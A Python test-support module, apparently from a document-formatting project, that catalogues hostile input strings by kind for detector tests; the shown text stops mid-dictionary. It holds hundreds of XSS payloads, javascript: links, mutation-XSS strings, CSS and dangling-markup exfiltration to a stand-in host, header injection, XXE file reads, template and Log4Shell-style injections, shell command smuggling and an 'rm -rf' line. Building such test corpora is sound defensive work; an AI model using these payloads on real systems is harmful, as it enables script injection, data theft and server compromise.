"""Hostile texts: what would run as a script, load from elsewhere or break a document if it came out as it went in.

Each belongs to a kind and names the place where it works if nothing is done about it, so that tests can prove that
their detectors see it there. Those without a place work in no browser of today, or are aimed at something else: a
filter, a template engine, an XML parser, a terminal. What works calls `alert(1)` or asks for something of `HOST`.
"""

import json
from collections.abc import Callable
from html import unescape
from typing import NamedTuple
from urllib.parse import unquote

from tests.support.arxiv_format import Sheet

HOST = "evil.example"
AT = f"https://{HOST}"

Texts = dict[str, str]


class Vector(NamedTuple):
    """A hostile text, and the place where it works: a key of `PLACES`, or "" for none."""

    kind: str
    name: str
    text: str
    place: str


_SCRIPTS: Texts = {
    "plain": "<script>alert(1)</script>",
    "mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "attributes": '<script type="text/javascript" async>alert(1)</script >',
    "slashes": "<script/x/>alert(1)</script/x>",
    "lines": "<script\n>alert(1)</script\n>",
    "form feed": "<script\x0c>alert(1)</script\x0c>",
    "from afar": f"<script src=//{HOST}/x.js></script>",
    "from data": "<script src=data:,alert(1)></script>",
    "module": "<script type=module>alert(1)</script>",
    "hidden in a comment": "<script><!--\nalert(1)\n--></script>",
    "tagged template": "<script>alert`1`</script>",
    "escaped letters": "<script>\\u0061lert(1)</script>",
    "put together": "<script>self['al'+'ert'](1)</script>",
    "imported": f"<script>import('{AT}/x.js')</script>",
    "second of two": "<b>x</b><script>0</script><script>alert(1)</script>",
    "in a table": "<table><tr><script>alert(1)</script></table>",
}
_SCRIPTS_FOR_FILTERS: Texts = {
    "in itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "never closed": "<script>alert(1)//",
    "space before": "< script>alert(1)</ script>",
    "two angles": "<<script>>alert(1)//<</script>>",
    "other language": "<script language=vbscript>msgbox(1)</script>",
    "import map": f'<script type=importmap>{{"imports":{{"x":"{AT}/x.js"}}}}</script>',
}
_HANDLERS: Texts = {
    "image": '<img src=x onerror="alert(1)">',
    "no quotes": "<img src=x onerror=alert(1)>",
    "single quotes": "<img src='x' onerror='alert(1)'>",
    "capitals": "<IMG SRC=x ONERROR=alert(1)>",
    "slashes": '<img/src="x"/onerror=alert(1)>',
    "lines": "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    "references": "<img src=x onerror=&#97;&#x6c;ert&lpar;1&rpar;>",
    "old image": "<image src=x onerror=alert(1)>",
    "body": "<body onload=alert(1)>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "focus of anything": "<x tabindex=0 autofocus onfocus=alert(1)>x</x>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "style": "<style onload=alert(1)></style>",
    "style sheet": "<link rel=stylesheet href=data:text/css, onload=alert(1)>",
    "frame": "<iframe onload=alert(1)></iframe>",
    "object": "<object data=x onerror=alert(1)></object>",
    "animation": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=alert(1)>x</p>",
    "transition": "<p style='transition:color 1s' onmouseover=alert(1)>x</p>",
    "pointer": "<p onpointerover=alert(1)>x</p>",
    "click": "<b onclick=alert(1)>x</b>",
    "mouse": "<a href=# onmouseover=alert(1)>x</a>",
    "visibility": "<p oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>x</p>",
    "scroll into view": "<p id=x onbeforematch=alert(1) onclick=alert(1) hidden=until-found>x</p>",
    "no end": "<img src=x onerror=alert(1) y=",
}
_SVG: Texts = {
    "load": "<svg onload=alert(1)></svg>",
    "slash": "<svg/onload=alert(1)>",
    "script": "<svg><script>alert(1)</script></svg>",
    "script with references": "<svg><script>alert&#40;1&#41;</script></svg>",
    "script by address": "<svg><script href=data:,alert(1) /></svg>",
    "script in CDATA": "<svg><script><![CDATA[alert(1)]]></script></svg>",
    "link": '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>',
    "animated link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "begin of an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    "image": f"<svg><image href={AT}/i width=9 height=9 /></svg>",
    "foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "style": f'<svg><style>@import "{AT}/x.css";</style></svg>',
    "filter": f"<svg><filter id=f><feImage href={AT}/i /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "title": "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "description": "<svg><desc><iframe onload=alert(1)></iframe></desc></svg>",
}
_SVG_OF_OLD: Texts = {
    "use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>"
    '</svg>#x" /></svg>',
    "handler": "<svg><handler type=text/javascript>alert(1)</handler></svg>",
    "set": "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
}
_MATHS: Texts = {
    "text": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "handler": "<math onclick=alert(1)><mi onclick=alert(1)>x</mi></math>",
}
_MATHS_ELSEWHERE: Texts = {
    "address": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
}
_EMBEDDED: Texts = {
    "frame set": "<frameset><frame src=javascript:alert(1)></frameset>",
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame from afar": f"<iframe src={AT}/f></iframe>",
    "frame with a document": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frame with an escaped document": '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
    "frame with data": f'<iframe src="data:text/html,<img src={AT}/i>"></iframe>',
    "object with data": f'<object data="data:text/html,<img src={AT}/i>"></object>',
    "object from afar": f"<object data={AT}/o></object>",
    "embedded from afar": f"<embed src={AT}/e>",
}
_EMBEDDED_ONCE: Texts = {
    "object": "<object data=javascript:alert(1)></object>",
    "embedded": "<embed src=javascript:alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "applet": f"<applet code=x archive={AT}/a.jar></applet>",
    "portal": f"<portal src={AT}/p></portal>",
    "layer": f"<layer src={AT}/l></layer>",
    "sound": f"<bgsound src={AT}/s>",
}
_DOCUMENT: Texts = {
    "refresh": f'<meta http-equiv=refresh content="0;url={AT}/r">',
    "refresh in capitals": f"<META HTTP-EQUIV=Refresh CONTENT=0;URL={AT}/r>",
    "base": f"<base href={AT}/><img src=i>",
    "style sheet": f"<link rel=stylesheet href={AT}/x.css>",
    "icon": f"<link rel=preload as=image href={AT}/i.png>",
    "style": f"<style>@import'{AT}/x.css';</style>",
    "background": f"<style>*{{background:url({AT}/b)}}</style>",
    "form": f"<form action={AT}/><button>x</button></form>",
    "form with a script": "<form action=javascript:alert(1)><input type=submit></form>",
    "button": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "button elsewhere": "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "old background": f"<table background={AT}/b><tr><td>x</table>",
}
_DOCUMENT_ELSEWHERE: Texts = {
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "refresh with a script": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "cookie": '<meta http-equiv=Set-Cookie content="x=1">',
    "encoding": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "import": f"<link rel=import href={AT}/x.html>",
    "index": "<isindex type=image src=x onerror=alert(1)>",
}
_LINKS: Texts = {
    "script": "<a href=javascript:alert(1)>x</a>",
    "mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "space before": '<a href=" javascript:alert(1)">x</a>',
    "control before": '<a href="&#1;javascript:alert(1)">x</a>',
    "tab inside": '<a href="java&#9;script:alert(1)">x</a>',
    "line inside": '<a href="java\nscript:alert(1)">x</a>',
    "letters as references": "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "hexadecimal": "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>x</a>",
    "colon by name": "<a href=javascript&colon;alert(1)>x</a>",
    "line in the script": "<a href=javascript://x%0aalert(1)>x</a>",
    "map": '<map name=m><area shape=default href="javascript:alert(1)" alt=x></map><img usemap=#m src=x>',
    "away": f"<a href={AT}/>x</a>",
    "away, by the same scheme": f"<a href=//{HOST}/>x</a>",
    "away, with backslashes": f"<a href=\\\\{HOST}\\>x</a>",
    "ping": f"<a href=# ping={AT}/p>x</a>",
}
_LINKS_ELSEWHERE: Texts = {
    "visual basic": "<a href=vbscript:msgbox(1)>x</a>",
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "feed": "<a href=feed:javascript:alert(1)>x</a>",
    "source": "<a href=view-source:javascript:alert(1)>x</a>",
    "file": "<a href=file:///etc/passwd>x</a>",
    "application": "<a href=ms-msdt:/id>x</a>",
}
_ADDRESSES: Texts = {
    "script": "javascript:alert(1)",
    "script with spaces": " \tjava\nscript:alert(1)",
    "script with a name": "javascript://arxiv.org/%0aalert(1)",
    "other host, by the same scheme": f"//{HOST}/%2f..",
    "other host, with backslashes": f"/\\{HOST}",
    "other host, with a tab": f"/\t/{HOST}/",
    "other host, scheme only": f"https:{HOST}",
}
_ADDRESSES_ELSEWHERE: Texts = {
    "other host": f"https://arxiv.org@{HOST}/",
}
_MARKDOWN: Texts = {
    "link": "[x](javascript:alert(1))",
    "link in angles": "[x](<javascript:alert(1)>)",
    "link in mixed case": "[x](JaVaScRiPt:alert(1))",
    "link with a colon by name": "[x](javascript&colon;alert(1))",
    "link with references": "[x](&#106;avascript:alert(1))",
    "link by reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "link by short reference": "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "autolink": "<javascript:alert(1)>",
    "link away": f"[x]({AT}/)",
    "autolink away": f"<{AT}/>",
    "link with a longer name": f"[x](https://arxiv.org.{HOST}/)",
    "link with a query": f"[x]({AT}/?https://arxiv.org/)",
    "link by the same scheme": f"[x](//{HOST}/)",
    "link with a fragment": f"[x](https://{HOST}#@arxiv.org/)",
    "image": f"![x]({AT}/i.png)",
    "image by reference": f"![x][i]\n\n[i]: {AT}/i.png",
    "image in a link": f"[![x]({AT}/i.png)](javascript:alert(1))",
    "link in an image": f"![[x](javascript:alert(1))]({AT}/i.png)",
    "HTML": "*a*\n\n<img src=x onerror=alert(1)>\n\n*b*",
    "HTML in line": "a <img src=x onerror=alert(1)> b",
    "HTML around": "<div onclick=alert(1)>\n\n[x](javascript:alert(1))\n\n</div>",
    "heading": "# <img src=x onerror=alert(1)>",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "list": "1. [x](javascript:alert(1))\n   - <svg onload=alert(1)>",
    "quotation": "> <script>alert(1)</script>",
    "comment": "<!-- -->\n<script>alert(1)</script>\n<!-- -->",
    "formula": "$<img src=x onerror=alert(1)>$",
    "displayed formula": "$$<img src=x onerror=alert(1)>$$",
    "formula in an address": "[x](javascript:alert(1)//$x$)",
    "formula in a text of a link": "[$x$ <img src=x onerror=alert(1)>](https://arxiv.org/)",
}
_MARKDOWN_ALSO: Texts = {
    "link with a tab": "[x](<java&#9;script:alert(1)>)",
    "link with a user": f"[x](https://arxiv.org@{HOST}/)",
    "link with a backslash": f"[x](https://{HOST}\\\\@arxiv.org/)",
    "title": '[x](https://arxiv.org/ "\\" onmouseover=\\"alert(1)")',
    "quote in an address": '[x](https://arxiv.org/"onmouseover="alert(1))',
    "quote in an autolink": '<https://arxiv.org/?"onclick="alert(1)>',
    "quote in an image": '![x" onerror="alert(1)](x"onerror="alert(1))',
    "code": "`<script>alert(1)</script>`",
    "fence": "```html\n<script>alert(1)</script>\n```",
    "fence with attributes": '```"><script>alert(1)</script>\nx\n```',
    "indented": "    <script>alert(1)</script>",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link in Visual Basic": "[x](vbscript:msgbox(1))",
    "link to a file": "[x](file:///etc/passwd)",
    "private use": "&#xE000;0&#xE001; &#xE000;99&#xE001; \ue0007\ue001 $x$",
    "private use in an address": '[$"onclick=alert(1)$](https://arxiv.org/&#xE000;0&#xE001;)',
    "footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "escapes": "\\<script\\>alert(1)\\</script\\>",
    "references": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "wiki": "[[javascript:alert(1)|x]] {{<script>alert(1)</script>}}",
    "front matter": "---\nlayout: javascript:alert(1)\n---\n<script>alert(1)</script>",
    "nested brackets": "[" * 60 + "x](javascript:alert(1))",
}
_ENCODED: Texts = {
    "once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "thrice": "&amp;amp;lt;script&amp;amp;gt;alert(1)&amp;amp;lt;/script&amp;amp;gt;",
    "five times": "&amp;amp;amp;amp;lt;img src=x onerror=alert(1)&amp;amp;amp;amp;gt;",
    "decimal": "&#60;img src=x onerror=alert(1)&#62;",
    "hexadecimal": "&#x3c;img src=x onerror=alert(1)&#X3E;",
    "padded": "&#0000060;img src=x onerror=alert(1)&#0000062;",
    "no semicolons": "&#60img src=x onerror=alert(1)&#62",
    "names without semicolons": "&ltimg src=x onerror=alert(1)&gt",
    "capitals": "&LT;script&GT;alert(1)&LT;/script&GT;",
    "mixed": "&#38;lt;script&#x26;gt;alert(1)&amp;#60;/script&amp;#62;",
    "other names": "&lt;img src=x onerror&equals;alert&lpar;1&rpar;&gt;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "percent twice": "%253Cscript%253Ealert(1)%253C/script%253E",
    "percent and names": "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B",
}
_ENCODED_ELSEWHERE: Texts = {
    "of scripts": "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "of scripts, by code point": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "of styles": "\\3c script\\3e alert(1)\\3c /script\\3e",
    "of old Microsoft": "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "eighth bit": "\xbcscript\xbealert(1)\xbc/script\xbe",
    "misread, with an overlong angle": "\xc3\xa9\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "base 64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}
_DOUBLE: Texts = {
    "handler": '" onfocus=alert(1) autofocus x="',
    "tag": '"><script>alert(1)</script>',
    "image": '"><img src=x onerror=alert(1)>',
    "slash": '"/onfocus="alert(1)"/autofocus/x="',
    "style": f'" style="background:url({AT}/b)" x="',
    "type": f'" type=image src={AT}/i x="',
}
_SINGLE: Texts = {
    "handler": "' onfocus=alert(1) autofocus x='",
    "tag": "'><script>alert(1)</script>",
}
_BARE: Texts = {
    "handler": "x onfocus=alert(1) autofocus",
    "tag": "x><script>alert(1)</script>",
}
_ATTRIBUTES_ELSEWHERE: Texts = {
    "backticks": "` onfocus=alert(1) autofocus x=`",
    "escaped quote": '\\" onfocus=alert(1) autofocus x=\\"',
    "quote by name": "&quot; onfocus=alert(1) autofocus x=&quot;",
    "joined": '" x=\u2060" onfocus=alert(1) autofocus',
}
_TITLE: Texts = {"end": "</title><script>alert(1)</script>", "spaced end": "</title\n x><img src=x onerror=alert(1)>"}
_TEXTAREA: Texts = {"end": "</textarea><script>alert(1)</script>", "slash": "</TEXTAREA/><img src=x onerror=alert(1)>"}
_STYLE: Texts = {
    "end": "</style><script>alert(1)</script>",
    "rule": f"x{{}}*{{background:url({AT}/b)}}",
    "import": f"@import '{AT}/x.css';",
}
_CSS: Texts = {"address": f"background:url({AT}/b)", "quote": '"><script>alert(1)</script>'}
_COMMENT: Texts = {
    "end": "--><script>alert(1)</script><!--",
    "other end": "--!><script>alert(1)</script>",
}
_COMMENT_ABRUPT: Texts = {
    "abrupt end": "<!--><script>alert(1)</script>-->",
    "abrupt end with a dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment that is none": "<!><img src=x onerror=alert(1)>",
    "question": "<?><img src=x onerror=alert(1)>",
    "conditional": "<![if true]><script>alert(1)</script><![endif]>",
}
_COMMENT_OF_OLD: Texts = {
    "Internet Explorer": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "tag": "<comment><img src='</comment><img src=x onerror=alert(1)'>",
}
_STRING: Texts = {
    "end of a string": '";alert(1)//',
    "end of a script": "</script><script>alert(1)</script>",
    "end of a script, with a tag": "</script ><svg onload=alert(1)>",
}
_QUOTED: Texts = {"end of a quoted string": "';alert(1)//", "operator": "'-alert(1)-'"}
_LITERAL: Texts = {"substitution": "${alert(1)}"}
_SCRIPT_ELSEWHERE: Texts = {
    "escaped backslash": '\\";alert(1)//',
    "line separator": "\u2028alert(1)//",
    "end of a comment": "*/alert(1)/*",
    "double escape": '<!--<script>"</script>";alert(1)//',
    "prefix": ")]}',\nalert(1)",
    "function": "x=alert(1);callback",
    "surrogates": "\\ud83d\\u003cscript>alert(1)</script>",
}
_ENDS: Texts = {
    "all quotes": "\"'`><x onfocus=alert(1) autofocus tabindex=0>",
    "end of a value": '"}],"x":{"y":"</script><script>alert(1)</script>',
    "prototype": '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "script": "</script><img src=x onerror=alert(1)>",
    "paragraph": "</p></div></section></main></body></html><script>alert(1)</script>",
    "select": "<select></select><img src=x onerror=alert(1)>",
    "option": "<select><option></select><script>alert(1)</script>",
    "no script": "<noscript></noscript><img src=x onerror=alert(1)>",
    "example": "<xmp></xmp><img src=x onerror=alert(1)>",
    "no embedding": "<noembed></noembed><img src=x onerror=alert(1)>",
    "plain text": "<img src=x onerror=alert(1)><plaintext>",
    "template": "</template><img src=x onerror=alert(1)>",
}
_MUTATIONS: Texts = {
    "no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style in svg": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "style in maths": '<math></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "example": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "no embedding": '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "no frames": '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "frame": '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "text area": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "glyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "title in svg": '<svg><title><style><img src="</style><img src=x onerror=alert(1)>">',
    "paragraph in svg": '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "comment in svg": '<svg><!--<style><img src="--><img src=x onerror=alert(1)>">',
    "CDATA without svg": '<a title="x"><![CDATA[><img src=x onerror=alert(1)>]]>',
}
_MUTATIONS_ELSEWHERE: Texts = {
    "table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "mark": '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "CDATA in svg": "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "select": "<select><iframe><select><img src=x onerror=alert(1)>",
    "backticks": "<img alt=``onerror=alert(1) src=x>",
    "many elements": "<b>" * 60 + "<svg><style><p></b>",
}
_CHARACTERS: Texts = {
    "shifted": "\x1b$B\x1b(J<script>alert(1)</script>\x1b(B",
    "misread": "\xc3\xa9<script>alert(1)</script>\xc3\xa9",
    "removed in an end": "]]\x00>]]\x01><script>alert(1)</script>",
    "tags": "\U000e003c\U000e0073\U000e0063\U000e003e<script>alert(1)</script>",
    "null before": "\x00<script>alert(1)</script>",
    "null in a value": '<img src="\x00" onerror=alert(1)>',
    "control in an address": '<a href="\x01javascript:alert(1)">x</a>',
    "null after a name": "<img src=x \x00 onerror=alert(1)>",
}
_CHARACTERS_ELSEWHERE: Texts = {
    "null in a name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "null in an angle": "<\x00script>alert(1)</\x00script>",
    "null in a reference": "&l\x00t;script&g\x00t;alert(1)",
    "null in a scheme": "<a href=java\x00script:alert(1)>x</a>",
    "vertical tab": "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "delete": "<scr\x7fipt>alert(1)</scr\x7fipt>",
    "next line": "<img\x85src=x\x85onerror=alert(1)>",
    "no break": "<img\xa0src=x\xa0onerror=alert(1)>",
    "soft hyphen": "<scr\xadipt>alert(1)</scr\xadipt>",
    "no width": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "byte order": "\ufeff<script>alert(1)</script>".replace("<script>", "<scr\ufeffipt>"),
    "separator": "<img\u2028src=x\u2029onerror=alert(1)>",
    "no character": "<scr\ufdd0ipt>alert(1)</scr\ufdd1ipt>",
    "removed in a mark": "<\u202escript>alert(1)<\u202c/script>",
    "removed in a name": "&l\u2066t;script&g\u2069t;alert(1)&l\ufdd0t;/script&g\ufdd1t;",
    "terminal": "\x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\ \x1b[2J\x9b31m",
    "bell": "\x07\x08\x08\x08rm -rf",
}
_DIRECTION: Texts = {
    "left override": "\u202dabc\u202c<script>alert(1)</script>",
    "isolates": "\u2066\u2067\u2068<script>alert(1)</script>",
    "embedding, never ended": "\u202a\u202babc <img src=x onerror=alert(1)>",
    "marks": "\u200e\u200f\u061c<script>alert(1)</script>",
}
_DIRECTION_ELSEWHERE: Texts = {
    "override": "\u202e<tpircs/>(1)trela<tpircs>",
    "name of a file": "annex\u202egpj.exe\u202c \u2069\u2069\u2069",
}
_TEMPLATES: Texts = {
    "Jinja": "{{1337*7}}",
    "Jinja's classes": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "Jinja's settings": "{{config}}{{self}}{{request.headers}}",
    "Jinja's statements": "{% for x in (1).__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "Jinja's files": "{% include '/etc/passwd' %}{% extends x %}{# x #}",
    "Jinja's filters": "{{'<script>alert(1)</script>'|safe}}",
    "Angular": "{{constructor.constructor('alert(1)')()}}",
    "Vue": "{{_c.constructor('alert(1)')()}}<p v-html=x @click=alert(1) :x=y>",
    "Alpine": '<p x-data x-init="alert(1)" x-html=y hx-on:load=alert(1) hx-get=https://evil.example/>',
    "Mustache": "{{{x}}}{{&x}}{{>x}}",
    "dollar": "${1337*7}${{1337*7}}#{1337*7}*{1337*7}@(1337*7)~{x}",
    "tags": "<%= 1337*7 %><%- x %><? x ?><#if x>[[${1337*7}]]",
    "format": "{0.__class__}{title}{!r}{",
    "percent": "%s%n%(x)s%d%x%%",
    "shell": "$(touch /x)`touch /x`|touch /x;touch /x&",
    "include": '<!--#exec cmd="ls"--><!--#include virtual="/etc/passwd"-->',
    "edge": f'<esi:include src="{AT}/x" />',
    "log": "${jndi:ldap://evil.example/x}",
    "sheet": '=HYPERLINK("https://evil.example/","x")',
}
_STYLES: Texts = {
    "background": f'<p style="background:url({AT}/b)">x</p>',
    "escaped address": f'<p style="background:\\75rl({AT}/b)">x</p>',
    "list": f"<ul style='list-style-image:url({AT}/l)'><li>x</ul>",
    "content": f"<style>p::before{{content:url({AT}/c)}}</style><p>x</p>",
    "font": f"<style>@font-face{{font-family:x;src:url({AT}/f)}}p{{font-family:x}}</style><p>x</p>",
    "variable": f'<p style="--x:url({AT}/v);background:var(--x)">x</p>',
    "image set": f"<p style='background:image-set(\"{AT}/s\" 1x)'>x</p>",
    "border": f'<p style="border:9px solid;border-image:url({AT}/b) 1">x</p>',
}
_STYLES_OF_OLD: Texts = {
    "expression": '<p style="width:expression(alert(1))">x</p>',
    "split expression": '<p style="width:ex/**/pression(alert(1))">x</p>',
    "behaviour": f'<p style="behavior:url({AT}/b.htc)">x</p>',
    "binding": f'<p style="-moz-binding:url({AT}/b.xml#x)">x</p>',
    "script": '<p style="background:url(javascript:alert(1))">x</p>',
    "link": "<p style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</p>",
    "cover": "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in here</p>",
}
_SOURCES: Texts = {
    "image": f"<img src={AT}/i>",
    "image by the same scheme": f"<img src=//{HOST}/i>",
    "set": f'<img srcset="{AT}/i 1x">',
    "picture": f"<picture><source srcset={AT}/i><img></picture>",
    "poster": f"<video poster={AT}/p></video>",
    "video": f"<video src={AT}/v preload=auto></video>",
    "audio": f"<audio src={AT}/a preload=auto></audio>",
    "input": f"<input type=image src={AT}/i>",
}
_SOURCES_OF_OLD: Texts = {
    "low": f"<img lowsrc={AT}/l dynsrc={AT}/d>",
    "manifest": f"<html manifest={AT}/m>",
    "description": f"<img longdesc={AT}/d>",
    "cite": f"<blockquote cite=javascript:alert(1)><q cite={AT}/c>x</q></blockquote>",
}
_DANGLING: Texts = {
    "image": f"<img src='{AT}/?x=",
    "refresh": f"<meta http-equiv=refresh content='0;url={AT}/?x=",
    "form": f"<form action={AT}/><input type=submit><textarea name=x>",
    "import": f"<style>@import'{AT}/?x=",
}
_DANGLING_ELSEWHERE: Texts = {
    "link": f'<a href="{AT}/?x=',
    "base": "<base target='",
    "comment": "<!-- all that follows",
    "tag": '<img alt="all that follows',
    "select": "<select><option>all that follows",
    "title": "<title>all that follows",
    "text": "<plaintext>all that follows",
    "end": "</",
    "angle": "<",
    "reference": "&#",
}
_HEADERS: Texts = {
    "cookie": "x\r\nSet-Cookie: xss=1",
    "body": "x\r\n\r\n<script>alert(1)</script>",
    "encoded": "x%0d%0aX-Evil: 1",
    "encoded twice": "x%250d%250aX-Evil: 1",
    "low bytes": "x\u560d\u560aX-Evil: 1\u560d\u560a<script>alert(1)</script>",
    "line feed": "x\nX-Evil: 1",
    "carriage return": "x\rX-Evil: 1",
    "other lines": "x\u2028X-Evil: 1\x85X-Evil: 2",
    "link": f'x>; rel="self", <{AT}/x.css>; rel="stylesheet',
    "location": f"\r\nLocation: {AT}/",
}
_XML: Texts = {
    "script": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "script with a prefix": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "image": '<img xmlns="http://www.w3.org/1999/xhtml" src="x:x" onerror="alert(1)"/>',
}
_CDATA: Texts = {
    "end": "]]><script>alert(1)</script>",
    "end, twice": "]]]]><![CDATA[><script>alert(1)</script>",
    "end, escaped": "]]&gt;<script>alert(1)</script>",
}
_XML_ELSEWHERE: Texts = {
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{AT}/x.dtd">%p;]>',
    "reference": "&e;&xxe;%p;&nbsp;&#xFFFE;&#0;&#xD800;",
    "style sheet": f'<?xml-stylesheet href="{AT}/x.xsl" type="text/xsl"?>',
    "declaration": '<?xml version="1.0" encoding="utf-7"?>+ADw-x+AD4-',
    "inclusion": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{AT}/x"/>',
    "end of an item": "</title></item><item><title>x</title><link>javascript:alert(1)</link></item><item><title>",
    "end of an entry": f'</title><link href="{AT}/"/></entry></feed><feed><entry><title>',
    "end of an outline": f'"/><outline type="rss" text="x" xmlUrl="{AT}/',
    "base": f'" xml:base="{AT}/',
    "enclosure": f'<enclosure url="{AT}/x.exe" type="application/x-msdownload"/>',
    "PHP": "<?php alert(1) ?><? alert(1) ?>",
}
_ALIKE: Texts = {
    "full width": "＜script＞alert(1)＜/script＞",
    "small": "﹤script﹥alert(1)﹤/script﹥",
    "single quotation": "‹script›alert(1)‹/script›",
    "brackets": "〈script〉alert(1)〈/script〉",
    "modifiers": "˂script˃alert(1)˂/script˃",
    "long s": "<ſcript>alert(1)</ſcript>",
    "no dot": "<ımg src=x onerror=alert(1)>",
    "full-width function": "<img src=x onerror=ａｌｅｒｔ(1)>".replace("<img", "＜img"),
    "stroke": "<\u0338script>\u0338alert(1)<\u0338/script>\u0338",
    "stroked": "≮script≯alert(1)≮/script≯",
    "quotation": "＂ onfocus=alert(1) autofocus x=＂",
    "colon": "[x](javascript：alert(1)) <a href=javaſcript：alert(1)>x</a>",
    "Cyrillic": "<ѕсrірt>alert(1)</ѕсrірt>",
    "ideographic dot": "<a href=https://evil。example/>x</a>",
}
_TEX: Texts = {
    "link with HTML": r'\href{"><script>alert(1)</script>}{<img src=x onerror=alert(1)>}',
    "formula": "$<img src=x onerror=alert(1)>$",
    "formula in brackets": r"\(<svg onload=alert(1)>\)",
    "displayed formula": r"\[<script>alert(1)</script>\]",
    "typewriter": r"{\tt <script>alert(1)</script>} \texttt{<img src=x onerror=alert(1)>}",
    "verbatim": r"\verb|<script>alert(1)</script>|",
    "quotes": "``<script>alert(1)</script>''",
    "HTML": r"\html{<script>alert(1)</script>} \special{html:<script>alert(1)</script>}",
